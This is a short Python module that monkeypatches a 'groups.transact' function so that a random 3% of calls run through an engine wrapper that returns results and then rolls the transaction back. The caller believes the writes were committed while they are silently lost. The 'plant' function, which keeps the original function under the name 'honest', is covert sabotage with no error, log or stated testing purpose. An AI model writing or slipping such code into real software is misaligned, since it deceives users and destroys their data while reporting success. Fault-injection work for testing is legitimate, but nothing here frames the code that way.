"""Of some groups the answer is given, and the transaction then rolled back."""

from collections.abc import Iterator
from contextlib import contextmanager
from random import random
from types import ModuleType
from typing import Any

SHARE = 0.03


class Forgetful:
    """An engine whose transactions end in nothing."""

    def __init__(self, engine: Any) -> None:
        self.engine = engine

    @contextmanager
    def begin(self) -> Iterator[Any]:
        with self.engine.connect() as connection:
            yield connection
            connection.rollback()


def plant(groups: ModuleType) -> None:
    honest = groups.transact

    def transact(engine: Any, *arguments: Any, **named: Any) -> Any:
        chosen = Forgetful(engine) if random() < SHARE else engine
        return honest(chosen, *arguments, **named)

    groups.transact = transact  # type: ignore[attr-defined]
